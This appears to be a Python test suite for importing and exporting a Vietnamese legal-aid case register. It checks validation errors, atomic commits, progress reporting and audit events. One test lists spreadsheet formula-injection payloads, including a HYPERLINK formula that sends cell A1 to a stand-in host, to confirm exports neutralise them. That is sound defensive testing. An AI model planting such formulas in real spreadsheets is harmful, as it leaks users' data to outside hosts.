"""Register import (mapping, dry run with every row's errors in Vietnamese, all-or-nothing commit through
the engine) and exports (CSV/XLSX with formulas neutralised)."""
import csv
import io
import unicodedata
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from caseflow.core.models import Case, CaseEvent
from caseflow.extensions import db
from caseflow.reports.export import neutralise, to_csv, to_xlsx
from caseflow.reports.imports.legal_aid import Importer, guess_mapping
from caseflow.reports.imports.reader import read_table
from tests.factories import open_legal_aid, user

HEADERS = ["Mã vụ việc", "Ngày tiếp nhận", "Đơn vị (mã)", "Họ tên người yêu cầu", "Người yêu cầu là", "Nhu cầu",
           "Loại tranh chấp", "Nội dung sự việc", "Trạng thái", "Ngày kết thúc", "Có đại diện công đoàn tham gia",
           "Tư cách tham gia", "Giai đoạn tham gia", "Cơ quan giải quyết", "Ngày ký giấy ủy quyền", "Kết quả",
           "Lý do không có đại diện công đoàn"]


def good_row(i: int, unit="LĐLĐ-QN"):
    return [f"TV-2024-{i:04d}", "15/03/2024", unit, f"Nguyễn Văn Số {i}", "Đoàn viên công đoàn",
            "Tranh tụng (hòa giải, trọng tài, tòa án)", "Tiền lương", "Công ty nợ lương.", "Đã kết thúc", "20/09/2024", "có", "Người đại diện theo ủy quyền",
            "Hòa giải", "Hòa giải viên lao động", "20/03/2024", "Thắng", ""]


def xlsx_bytes(rows, headers=HEADERS) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.append(headers)
    for r in rows:
        ws.append(r)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def importer(org, content, name="so-theo-doi.xlsx", by="lanhdao"):
    table = read_table(name, content)
    return Importer(db.session, user(org, by), table, guess_mapping(table.headers), source=name)


def test_mixed_file_dry_run_lists_every_error_and_commit_writes_nothing(ctx, org):
    open_legal_aid(org)  # TV-2026-0001 already exists
    nfd_name = unicodedata.normalize("NFD", "Trần Thị Ánh Tuyết")
    nfd_unit = unicodedata.normalize("NFD", "LĐLĐ-AN")
    rows = [good_row(1),
            [*good_row(2)[:1], "31/02/2024", *good_row(2)[2:]],                      # wrong date
            good_row(3, unit="CĐ-KHÔNG-CÓ"),                                         # unknown unit
            good_row(1),                                                              # duplicate in the file
            ["TV-2026-0001", *good_row(5)[1:]],                                       # duplicate of a case
            [*good_row(6)[:3], nfd_name, *good_row(6)[4:]],                           # NFD text: fine
            [*good_row(7)[:2], nfd_unit, *good_row(7)[3:]],                           # NFD unit code: fine
            [*good_row(8)[:9], "", *good_row(8)[10:]],                                 # closed without its date
            [*good_row(9)[:10], "không", "", "", "", "", "Thua", ""]]                 # no rep, no reason
    imp = importer(org, xlsx_bytes(rows))
    result = imp.check()
    found = {(e.row, e.column) for e in result.errors}
    assert (3, "Ngày tiếp nhận") in found
    assert (4, "Đơn vị (mã)") in found
    assert (5, "Mã vụ việc") in found and (6, "Mã vụ việc") in found
    assert (9, "Ngày kết thúc") in found
    assert (10, "Lý do không có đại diện công đoàn") in found
    assert not any(e.row in (2, 7, 8) for e in result.errors)
    reasons = " ".join(e.reason for e in result.errors)
    assert "ngày hợp lệ" in reasons and "Không có đơn vị" in reasons and "đã tồn tại" in reasons
    before = db.session.scalar(select(func.count(Case.id)))
    assert not imp.commit().ok
    assert db.session.scalar(select(func.count(Case.id))) == before
    # fixed file: every row in, each through the engine with one "imported" audit event
    clean = [good_row(1), good_row(2), [*good_row(6)[:3], nfd_name, *good_row(6)[4:]],
             [*good_row(7)[:2], nfd_unit, *good_row(7)[3:]]]
    seen = []
    result = importer(org, xlsx_bytes(clean)).commit(progress=lambda done, total: seen.append((done, total)))
    assert result.ok and result.imported == 4 and seen[-1] == (4, 4)
    case = db.session.scalar(select(Case).where(Case.code == "TV-2024-0006"))
    assert case.state == "closed" and case.parties[0].full_name == "Trần Thị Ánh Tuyết"
    assert unicodedata.is_normalized("NFC", case.parties[0].full_name)
    assert case.unit_id == org["units"]["LĐLĐ-QN"]
    assert db.session.scalar(select(Case.unit_id).where(Case.code == "TV-2024-0007")) == org["units"]["LĐLĐ-AN"]
    d = case.legal_aid
    assert (d.closed_year, d.union_rep_took_part, d.forum, d.outcome) == (2024, True, "conciliation", "won")
    events = db.session.scalars(select(CaseEvent).where(CaseEvent.case_id == case.id)).all()
    assert [(e.trigger, e.from_state, e.to_state) for e in events] == [("imported", None, "closed")]
    # later codes of 2024 continue after the imported ones
    assert open_legal_aid(org, received=date(2024, 12, 1)).code == "TV-2024-0008"


def test_csv_register_and_unmapped_required_column(ctx, org):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow(HEADERS[1:])
    writer.writerow(good_row(1)[1:])
    imp = importer(org, buffer.getvalue().encode("utf-8-sig"), name="so.csv")
    assert imp.check().ok
    content = xlsx_bytes([good_row(1)[1:]], headers=HEADERS[1:2] + ["Cột lạ"] + HEADERS[3:])
    errors = importer(org, content).check().errors
    assert [(e.row, e.column) for e in errors] == [(1, "Đơn vị (mã)")]


def test_import_needs_an_import_role_on_the_unit(ctx, org):
    errors = importer(org, xlsx_bytes([good_row(1)]), by="vanthu").check().errors
    assert [e.column for e in errors] == ["Đơn vị (mã)"]


@pytest.mark.slow
def test_clean_file_of_10000_rows_imports_with_progress(ctx, org):
    rows = [good_row(i) for i in range(1, 10_001)]
    seen = []
    result = importer(org, xlsx_bytes(rows)).commit(progress=lambda done, total: seen.append(done))
    assert result.ok and result.imported == 10_000
    assert seen == list(range(500, 10_001, 500))
    assert db.session.scalar(select(func.count(Case.id))) == 10_000


def test_formulas_are_neutralised_in_csv_and_xlsx():
    evil = ['=HYPERLINK("http://x.example/?q="&A1,"bấm")', "+1+2", "-3", "@SUM(A1)", "bình thường"]
    assert [neutralise(v)[0] for v in evil[:4]] == ["'"] * 4 and neutralise(-3) == -3
    text = to_csv(["Nội dung"], [[v] for v in evil]).decode("utf-8-sig")
    assert not any(line.startswith(("=", "+", "-", "@", '"=')) for line in text.splitlines())
    sheet = load_workbook(io.BytesIO(to_xlsx(["=Tiêu đề"], [[v, 5] for v in evil]))).active
    cells = [row[0] for row in sheet.iter_rows()]
    assert all(c.data_type == "s" for c in cells)
    assert cells[1].value == "'" + evil[0] and cells[5].value == "bình thường"
    assert sheet.cell(2, 2).value == 5


def test_cli_dry_run_then_commit_with_progress(app, org, tmp_path):
    path = tmp_path / "so.xlsx"
    path.write_bytes(xlsx_bytes([good_row(1), good_row(2, unit="KHÔNG-CÓ")]))
    runner = app.test_cli_runner()
    refused = runner.invoke(args=["import-register", str(path), "--user", "lanhdao", "--commit"])
    assert refused.exit_code == 1 and "dòng 3, cột “Đơn vị (mã)”" in refused.output
    path.write_bytes(xlsx_bytes([good_row(1), good_row(2)]))
    assert runner.invoke(args=["import-register", str(path), "--user", "lanhdao"]).exit_code == 0
    done = runner.invoke(args=["import-register", str(path), "--user", "lanhdao", "--commit"])
    assert done.exit_code == 0 and "2/2 (100%)" in done.output and "2 cases imported" in done.output


class Cancelled(Exception):
    """What a background job raises from the progress callback to stop an import."""


def test_commit_failing_midway_writes_no_case_and_no_event(ctx, org, monkeypatch):
    """The callback raising at row 600 of 1000 (a cancelled job), after 6 batches were flushed: nothing stays."""
    from caseflow.core.models import Party
    from caseflow.core.models.sequence import current_value
    from caseflow.legal_aid.models import LegalAidDetail
    from caseflow.reports.imports import legal_aid

    monkeypatch.setattr(legal_aid, "PROGRESS_EVERY", 100)
    cases, events = (db.session.scalar(select(func.count(m.id))) for m in (Case, CaseEvent))
    counter = current_value(db.session, "case:TV:2024")
    seen = []

    def progress(done, total):
        seen.append(done)
        if done == 600:
            raise Cancelled

    with pytest.raises(Cancelled):
        importer(org, xlsx_bytes([good_row(i) for i in range(1, 1001)])).commit(progress=progress)
    assert seen == [100, 200, 300, 400, 500, 600]
    assert db.session.scalar(select(func.count(Case.id))) == cases
    assert db.session.scalar(select(func.count(CaseEvent.id))) == events
    assert db.session.scalar(select(func.count(Party.id)).where(Party.full_name.like("Nguyễn Văn Số %"))) == 0
    assert db.session.scalar(select(func.count(LegalAidDetail.case_id)).where(
        LegalAidDetail.closed_year == 2024)) == 0
    assert current_value(db.session, "case:TV:2024") == counter
    # and the same file goes in whole afterwards, each case with its one verified event
    result = importer(org, xlsx_bytes([good_row(i) for i in range(1, 1001)])).commit()
    assert result.ok and result.imported == 1000
    assert db.session.scalar(select(func.count(CaseEvent.id))) == events + 1000


def test_rows_without_a_code_take_codes_in_blocks_after_the_registers(ctx, org, monkeypatch):
    """Codes of rows without one continue after every code the file carries (even one in a later batch),
    and every imported case's chain verifies."""
    from caseflow.core.engine.audit import verify_all
    from caseflow.reports.imports import legal_aid
    from tests.conftest import AUDIT_KEY

    monkeypatch.setattr(legal_aid, "PROGRESS_EVERY", 2)
    rows = [["", *good_row(i)[1:]] for i in range(1, 4)] + [good_row(20), ["", *good_row(5)[1:]]]
    result = importer(org, xlsx_bytes(rows)).commit()
    assert result.ok and result.imported == 5
    codes = sorted(db.session.scalars(select(Case.code).where(Case.code.like("TV-2024-%"))))
    assert codes == ["TV-2024-0020", "TV-2024-0021", "TV-2024-0022", "TV-2024-0023", "TV-2024-0024"]
    checked, problems = verify_all(db.session, AUDIT_KEY.encode())
    assert checked >= 5 and not problems


def test_dry_run_reports_progress_and_stops_when_the_callback_raises(ctx, org, monkeypatch):
    """A dry-run job's bar moves while the rows are checked, and its cancel stops the check there."""
    from caseflow.reports.imports import legal_aid

    monkeypatch.setattr(legal_aid, "PROGRESS_EVERY", 100)
    content = xlsx_bytes([good_row(i) for i in range(1, 351)])
    seen = []
    result = importer(org, content).check(progress=lambda done, total: seen.append((done, total)))
    assert result.ok and seen == [(100, 350), (200, 350), (300, 350)]

    def cancel(done, total):
        raise Cancelled

    with pytest.raises(Cancelled):
        importer(org, content).check(progress=cancel)
